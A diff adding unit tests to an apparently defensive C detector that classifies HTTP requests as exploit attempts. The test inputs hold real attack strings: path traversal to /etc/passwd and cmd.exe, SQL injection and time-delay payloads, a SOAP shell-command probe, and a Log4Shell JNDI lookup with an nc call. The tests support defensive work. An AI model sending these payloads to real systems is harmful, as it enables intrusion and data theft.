@@ -5,6 +5,7 @@
 #include <stdarg.h>
 #include <stddef.h>
 #include <stdint.h>
+#include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 
@@ -194,6 +195,59 @@ static void attempts_are_found_with_whom_to_call(void **state)
 	assert_int_equal(x.kind, EXPLOIT_EXPRESSION);
 }
 
+static void is_found(const char *path, enum exploit_kind kind)
+{
+	char line[512];
+	struct exploit x;
+	snprintf(line, sizeof(line), "GET %s HTTP/1.1\r\nHost: a\r\n\r\n", path);
+	(void)find(line, true, &x);
+	assert_int_equal(x.kind, kind);
+	assert_string_equal(x.target, "");
+}
+
+static void paths_that_climb_are_found(void **state)
+{
+	(void)state;
+	is_found("/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", EXPLOIT_CLIMB);
+	is_found("/cgi-bin/%2e%2e/%2e%2e/bin/sh", EXPLOIT_CLIMB);
+	is_found("/scripts/..%255c../winnt/system32/cmd.exe?/c+dir", EXPLOIT_CLIMB);
+	is_found("/c/winnt/system32/cmd.exe?/c+dir", EXPLOIT_CLIMB);
+	is_found("/tmui/login.jsp/..;/tmui/x.jsp", EXPLOIT_CLIMB);
+	is_found("/a?page=../../../../etc/passwd", EXPLOIT_FILE);
+	is_found("/a?page=..%5C..%5Cwindows%5Cwin.ini", EXPLOIT_FILE);
+	is_found("/a/../img/logo.png", EXPLOIT_NONE);
+	is_found("/compare/v1.0...v1.1?x=/etc/passwd", EXPLOIT_NONE);
+	is_found("/a?page=../../img/logo.png", EXPLOIT_NONE);
+	is_found("/a?x=/..;/b", EXPLOIT_NONE);
+}
+
+static void values_that_go_on_as_sql_are_found(void **state)
+{
+	(void)state;
+	is_found("/a?id=1%20UNION%20SELECT%201,2", EXPLOIT_QUERY);
+	is_found("/a?id=1%27/**/union/**/all/**/select%20null", EXPLOIT_QUERY);
+	is_found("/a?id=1%27+or+%271%27=%271", EXPLOIT_QUERY);
+	is_found("/a?id=1)%20and%20sleep(5)--", EXPLOIT_QUERY);
+	is_found("/a?id=7%20AND%20731=731", EXPLOIT_QUERY);
+	is_found("/a?id=1;WAITFOR%20DELAY%20%270:0:5%27", EXPLOIT_QUERY);
+	is_found("/a?id=7%20AND%20731=732", EXPLOIT_NONE);
+	is_found("/a?q=O%27Neil%20and%20sons", EXPLOIT_NONE);
+	is_found("/a?$filter=id%20gt%205%20and%20length(name)%20gt%203", EXPLOIT_NONE);
+	is_found("/?query=SELECT%201%20UNION%20ALL%20SELECT%202", EXPLOIT_NONE);
+	is_found("/a?q=union%20select", EXPLOIT_NONE);
+	is_found("/unit%2012union", EXPLOIT_NONE);
+}
+
+static void a_command_by_soap_is_found_and_names_nobody(void **state)
+{
+	struct exploit x;
+	(void)state;
+	assert_true(
+		find("<p:ExecuteShellCommand_INPUT xmlns:p=\"http://a.example/x\">", false, &x));
+	assert_int_equal(x.kind, EXPLOIT_COMMAND);
+	assert_string_equal(x.target, "");
+}
+
 static void honest_requests_try_nothing(void **state)
 {
 	struct exploit x;
@@ -212,7 +266,8 @@ static void honest_requests_try_nothing(void **state)
 static void every_prefix_of_an_attempt_is_survived(void **state)
 {
 	static const char text[] =
-		"a=%24{${lower:j}${::-n}di:ldap://[2001:db8::1]:99/x};nc 1.2.3.4 5";
+		"a=%24{${lower:j}${::-n}di:ldap://[2001:db8::1]:99/x};nc 1.2.3.4 5"
+		"/..%2f..%5c/etc/passwd?b=1' union all select '1'='1 and sleep(";
 	struct exploit x;
 	(void)state;
 	for (size_t len = 1; len < sizeof(text); len++) {
@@ -235,6 +290,9 @@ int main(void)
 		cmocka_unit_test(shares_need_runs),
 		cmocka_unit_test(attempts_are_found_with_whom_to_call),
 		cmocka_unit_test(honest_requests_try_nothing),
+		cmocka_unit_test(paths_that_climb_are_found),
+		cmocka_unit_test(values_that_go_on_as_sql_are_found),
+		cmocka_unit_test(a_command_by_soap_is_found_and_names_nobody),
 		cmocka_unit_test(every_prefix_of_an_attempt_is_survived),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
